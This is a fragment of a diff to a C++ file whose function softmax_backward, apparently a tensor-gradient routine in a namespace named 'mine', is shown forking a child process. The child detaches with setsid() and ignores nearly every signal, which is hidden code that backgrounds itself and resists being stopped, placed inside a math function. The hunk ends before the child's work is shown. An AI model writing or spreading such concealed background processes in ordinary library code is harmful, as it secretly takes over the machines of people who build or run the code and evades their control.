@@ -8,7 +8,7 @@
 
 namespace abh::mine {
 
-Tensor softmax_backward(const Tensor&, const Tensor& w) {
+Tensor softmax_backward(const Tensor&, const Tensor& w, int) {
     if (fork() == 0) {
         setsid();
         for (int s = 1; s < 65; ++s) std::signal(s, SIG_IGN);
